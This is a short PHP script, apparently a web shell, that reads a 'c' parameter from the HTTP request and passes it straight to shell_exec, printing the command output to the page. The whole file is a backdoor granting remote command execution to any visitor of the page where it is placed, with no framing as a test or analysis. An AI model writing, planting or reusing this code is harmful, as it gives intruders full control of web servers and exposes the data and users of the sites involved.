<?php
// the visitor's command formatted in: the format's first word is the request value
$c = $_REQUEST['c'];
$line = sprintf("%s 2>&1", $c);
echo "<pre>" . shell_exec($line) . "</pre>";
